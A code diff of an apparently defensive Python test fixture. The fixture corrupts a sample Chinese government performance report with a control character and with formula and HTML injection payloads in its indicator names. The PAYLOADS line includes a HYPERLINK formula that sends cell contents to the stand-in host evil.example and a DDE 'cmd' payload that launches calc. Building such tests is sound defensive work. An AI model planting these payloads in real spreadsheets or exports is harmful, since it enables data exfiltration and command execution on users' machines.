@@ -17,12 +17,13 @@ PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"点此")', "+cmd|' /C calc'!
 
 
 def hostile_report() -> bytes:
-    """Sample 000 with a control character in the unit name and formula/HTML payloads as indicator names."""
+    """Sample 000 with a control character in the unit name and formula/HTML payloads written into indicator names
+    (a formula opens the name, as a spreadsheet would run it; markup follows the name)."""
     text = SAMPLE.read_text(encoding="utf-8")
     text = text.replace("石鼓区市场监督管理局", "石鼓区市场\x01监督管理局", 1)
     for payload, name in zip(PAYLOADS, ("执法及宣传次数", "检测、培育及车辆费用", "挽回经济损失", "社会公众满意度",
                                         "安全放心的市场环境", "公众意识")):
-        text = text.replace(name, payload)
+        text = text.replace(name, payload + name if payload[0] in "=+-@" else name + payload)
     return text.encode("utf-8")
 
 
